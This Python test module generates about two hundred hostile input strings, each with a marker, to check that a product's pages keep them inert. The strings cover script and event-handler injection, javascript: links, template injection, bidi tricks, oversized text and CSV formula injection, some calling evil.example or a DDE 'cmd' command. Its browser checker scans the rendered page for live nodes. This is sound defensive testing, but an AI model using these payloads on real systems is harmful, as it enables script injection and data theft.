"""Two hundred texts that must stay text, and how a browser test sees that they did.

Every payload carries a marker of its own (`h000`, `h001`...), so a page can be searched for it, and every one that
runs sets `window.hostileRan` or asks `evil.example` for something. Written out combinatorially: what is done (markup,
links, templates, directions, size, formulas) times how it is wrapped.

    page.evaluate(INERT_JS, "#rejoinder")     -> [] where nothing came alive; shadow roots are searched too
    formula_cells(csv_text)                   -> cells that a spreadsheet would compute
"""

from __future__ import annotations

import csv
import io
from dataclasses import dataclass
from itertools import product

EVIL_HOST = "evil.example"
RUN = "window.hostileRan=1"
MAX_CHARS = 4000
"""What the product takes at most in one message: the huge ones are nearly that long."""

_MARKUP = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}><circle r=9></svg>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}><summary>x</summary></details>",
    f"<video><source onerror={RUN}></video>",
    f'<a href="javascript:{RUN}" id=rejoinder>press</a>',
    f"<form action=https://{EVIL_HOST}/><button>Send</button></form>",
    f"<object data=https://{EVIL_HOST}/o></object>",
    f"<style>@import 'https://{EVIL_HOST}/s.css'; *{{display:none!important}}</style>",
    f"<link rel=stylesheet href=https://{EVIL_HOST}/l.css>",
    f"<base href=https://{EVIL_HOST}/>",
    f"<meta http-equiv=refresh content='0;url=https://{EVIL_HOST}/m'>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
)
_WRAPPERS = ("{}", '"><b>{}', "'>{}<!--", "</textarea></script></div>{}", "`{}`", "**{}**")

_ADDRESSES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"\x01javascript:{RUN}",
    f"&#106;avascript:{RUN}",
    f"vbscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "file:///etc/passwd",
    f"//{EVIL_HOST}/p.png",
    f"https://bank.example@{EVIL_HOST}/p.png",
)
_LINK_FORMS = ("[press]({})", "![picture]({})", "<{}>", '[press][1]\n\n[1]: {} "title"')

_TEMPLATES = (
    "${{{0}}}",
    "{{{{{0}}}}}",
    "{{% {0} %}}",
    "<%= {0} %>",
    "#{{{0}}}",
    "{{{{constructor.constructor('{0}')()}}}}",
    "`${{{0}}}`",
)
_TEMPLATE_PLACES = ("{}", "<b :class='{}' @click='{}'>x</b>")

_DIRECTIONS = ("\u202e", "\u2066\u202e", "\u200f", "\u200b", "\ufeff", "\u2028", "a\u0301\u0489\u0315\u0361")
_DIRECTION_PLACES = ("invoice{}fdp.exe", "[bank.example{}](https://evil.example/a)", "{}")

_HUGE = (
    "w" * 3900,
    "\n" * 3900,
    "[" * 3900,
    "*" * 3901,
    "> " * 1900,
    "- " * 1900,
    "[a](" * 900,
    "\U0001f469\u200d\U0001f467" * 900,
    "a\u0301" * 1900,
    "https://" + "a." * 1900,
)

_FORMULAS = (
    'HYPERLINK("https://evil.example/?"&A1,"press")',
    "cmd|' /C calc'!A0",
    'WEBSERVICE("https://evil.example/"&B2)',
    '1+1,"quoted",more',
    "SUM(A1:A9)\n=1",
)
_FORMULA_SIGNS = "=+-@\t\r"


@dataclass(frozen=True, slots=True)
class Payload:
    """One hostile text. `kind`: markup, link, template, direction, huge or formula."""

    kind: str
    marker: str
    text: str


def _texts() -> list[tuple[str, str]]:
    texts = [("markup", wrap.format(markup)) for markup, wrap in product(_MARKUP, _WRAPPERS)]
    texts += [("link", form.format(address)) for address, form in product(_ADDRESSES, _LINK_FORMS)]
    texts += [("template", _filled(form, place)) for form, place in product(_TEMPLATES, _TEMPLATE_PLACES)]
    texts += [("direction", place.format(sign)) for sign, place in product(_DIRECTIONS, _DIRECTION_PLACES)]
    texts += [("huge", text) for text in _HUGE]
    return texts + [("formula", sign + formula) for sign, formula in product(_FORMULA_SIGNS, _FORMULAS)]


def _filled(form: str, place: str) -> str:
    return place.replace("{}", form.format(RUN))


PAYLOADS: tuple[Payload, ...] = tuple(
    # The marker stands behind: formulas and directions work by what comes first.
    Payload(kind, f"h{number:03d}", f"{text} h{number:03d}")
    for number, (kind, text) in enumerate(_texts())
)
"""All of them, in a fixed order."""

INERT_JS = """(selector) => {
  const faults = window.hostileRan ? ['a script ran'] : [];
  const strange = ['SCRIPT', 'IFRAME', 'OBJECT', 'EMBED', 'BASE', 'META', 'LINK', 'STYLE', 'MATH', 'VIDEO', 'IMG', 'BODY'];
  const isOurs = (node) => !/hostileRan|evil\\.example|src="?x/.test(node.outerHTML);
  const check = (node) => {
    for (const {name, value} of node.attributes) {
      if (/^on/.test(name)) faults.push(`${node.tagName} has ${name}`);
      if (/^(href|src|action|formaction|data|xlink:href|srcdoc)$/.test(name) && node.tagName !== 'use') {
        const address = new URL(value, location.href);
        const isLink = node.tagName === 'A' && name === 'href';
        if (!/^(https?|data|blob|mailto):$/.test(address.protocol) || (isLink && /^(data|blob):$/.test(address.protocol)))
          faults.push(`${node.tagName} leads to ${address.protocol}`);
        if (address.username || (!isLink && address.host === 'evil.example')) faults.push(`${node.tagName} asks ${value}`);
      }
    }
    if (strange.includes(node.tagName) && !isOurs(node)) faults.push(`${node.tagName} came alive`);
  };
  const walk = (root) => {
    for (const node of root.querySelectorAll('*')) {
      check(node);
      if (node.shadowRoot) walk(node.shadowRoot);
    }
  };
  for (const root of document.querySelectorAll(selector)) {
    walk(root);
    if (root.shadowRoot) walk(root.shadowRoot);
  }
  if (document.querySelectorAll('#rejoinder').length > 1) faults.push('an id of ours was taken');
  return faults;
}"""
"""`page.evaluate(INERT_JS, selector)`: what came alive under the selector, as lines; [] is good."""


def formula_cells(csv_text: str) -> list[str]:
    """Cells of a CSV that a spreadsheet would compute: those that begin with one of its signs and are no number."""
    cells = [cell for row in csv.reader(io.StringIO(csv_text, newline="")) for cell in row]
    return [cell for cell in cells if cell[:1] in tuple(_FORMULA_SIGNS) and not _is_number(cell)]


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
